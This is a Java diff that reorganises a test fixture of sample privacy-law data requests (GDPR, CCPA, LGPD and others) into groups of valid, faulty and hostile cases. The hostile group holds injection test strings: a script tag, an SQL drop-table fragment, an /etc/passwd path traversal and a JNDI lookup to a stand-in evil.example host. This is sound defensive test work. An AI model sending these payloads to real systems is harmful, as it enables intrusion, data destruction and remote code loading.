@@ -4,6 +4,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.time.ZoneOffset;
 import java.time.temporal.ChronoUnit;
+import java.util.ArrayList;
 import java.util.List;
 import org.jspecify.annotations.Nullable;
 
@@ -30,6 +31,9 @@ record Asking(
         @Nullable String country,
         @Nullable String language) {
 
+    private static final Known ADA = new Known("EMAIL", "Ada.Lovelace@Example.ORG");
+    private static final Known GRACE = new Known("EMAIL", "grace@example.org");
+
     /** By what somebody is known. */
     record Known(String kind, String value) {}
 
@@ -48,35 +52,39 @@ record Asking(
                 .truncatedTo(ChronoUnit.SECONDS)
                 .atOffset(ZoneOffset.ofHours(1))
                 .toString();
-        Known ada = new Known("EMAIL", "Ada.Lovelace@Example.ORG");
-        Known grace = new Known("EMAIL", "grace@example.org");
-        Asking german = of("german", "GDPR", "ACCESS", claim, "Ada Lovelace", ada, new Known("PHONE", "030 901820"))
-                .from("DE", "de");
-        Asking british = of(
-                        "british",
-                        "UK_GDPR",
-                        "ERASURE",
-                        claim,
-                        "Grace O'Hopper",
-                        grace,
-                        new Known("PHONE", "0044 20 7946 0958"))
-                .from("GB", "en-GB");
-        Asking american = of(
-                        "american",
-                        "CCPA",
-                        "PORTABILITY",
-                        claim,
-                        "Alan \"T\" Turing",
-                        new Known("PHONE", "(415) 555-2671"),
-                        new Known("EXTERNAL_ID", "C-000417"))
-                .from("us", "en-us");
+        List<Asking> all = new ArrayList<>(travellers(claim));
+        all.addAll(manifold(claim));
+        all.addAll(faulty(claim));
+        all.addAll(hostile(claim));
+        all.add(all.get(0).as("german-again", "german"));
+        all.add(all.get(1).as("british-joined", "british-joined"));
+        all.add(all.get(2).as("american-conflicting", "american").knownBy(new Known("EXTERNAL_ID", "C-000418")));
+        return all;
+    }
+
+    private static List<Asking> travellers(String claim) {
+        Known british = new Known("PHONE", "0044 20 7946 0958");
         return List.of(
-                german,
-                british,
-                american,
+                of("german", "GDPR", "ACCESS", claim, "Ada Lovelace", ADA, new Known("PHONE", "030 901820"))
+                        .from("DE", "de"),
+                of("british", "UK_GDPR", "ERASURE", claim, "Grace O'Hopper", GRACE, british)
+                        .from("GB", "en-GB"),
+                of(
+                                "american",
+                                "CCPA",
+                                "PORTABILITY",
+                                claim,
+                                "Alan \"T\" Turing",
+                                new Known("PHONE", "(415) 555-2671"),
+                                new Known("EXTERNAL_ID", "C-000417"))
+                        .from("us", "en-us"),
                 of("brazilian", "LGPD", "ACCESS", claim, "João Gonçalves", new Known("PHONE", "+55 11 91234-5678")),
                 of("corrected", "GDPR", "RECTIFICATION", claim, "Edsger", new Known("EMAIL", "edsger@example.org"))
-                        .correcting(new Correction("EMAIL", "edsger@example.org", "E.W@example.org")),
+                        .correcting(new Correction("EMAIL", "edsger@example.org", "E.W@example.org")));
+    }
+
+    private static List<Asking> manifold(String claim) {
+        return List.of(
                 of(
                                 "much-known",
                                 "GDPR",
@@ -100,15 +108,23 @@ record Asking(
                         new Known("INSTAGRAM", "ada.l"),
                         new Known("FACEBOOK", "ada|lovelace"),
                         new Known("APPLE_MESSAGES", "urn:mbid:AQAAY3")),
-                of("twice", "GDPR", "ACCESS", claim, null, ada, ada, new Known("EMAIL", "ada.lovelace@example.org")),
-                of("unproved", "GDPR", "ACCESS", claim, "Ada", ada).unproved(),
-                of("undated", "UK_GDPR", "ERASURE", null, "Grace", grace).unproved(),
-                of("unknown-right", "GDPR", "FORGET_ME", claim, "Ada", ada),
+                of("twice", "GDPR", "ACCESS", claim, null, ADA, ADA, new Known("EMAIL", "ada.lovelace@example.org")));
+    }
+
+    private static List<Asking> faulty(String claim) {
+        return List.of(
+                of("unproved", "GDPR", "ACCESS", claim, "Ada", ADA).unproved(),
+                of("undated", "UK_GDPR", "ERASURE", null, "Grace", GRACE).unproved(),
+                of("unknown-right", "GDPR", "FORGET_ME", claim, "Ada", ADA),
                 of("unknown-law", "POPIA", "ACCESS", claim, "Ada", new Known("EMAIL", "nobody")),
                 of("unknown-kind", "GDPR", "ACCESS", claim, "Ada", new Known("MYSPACE", "ada")),
                 of("phone-of-nowhere", "GDPR", "ACCESS", claim, "Ada", new Known("PHONE", "030 901820")),
-                of("from-nowhere", "GDPR", "ACCESS", "1990-01-01T00:00:00Z", "Ada", ada)
-                        .from("Narnia", "not a language"),
+                of("from-nowhere", "GDPR", "ACCESS", "1990-01-01T00:00:00Z", "Ada", ADA)
+                        .from("Narnia", "not a language"));
+    }
+
+    private static List<Asking> hostile(String claim) {
+        return List.of(
                 of(
                         "formula",
                         "GDPR",
@@ -123,10 +139,7 @@ record Asking(
                         claim,
                         "<script>alert('x')</script>'; drop table request; --",
                         new Known("EXTERNAL_ID", "../../etc/passwd"),
-                        new Known("EXTERNAL_ID", "${jndi:ldap://evil.example}")),
-                german.as("german-again", "german"),
-                british.as("british-joined", "british-joined"),
-                american.as("american-conflicting", "american").knownBy(new Known("EXTERNAL_ID", "C-000418")));
+                        new Known("EXTERNAL_ID", "${jndi:ldap://evil.example}")));
     }
 
     private static Asking of(
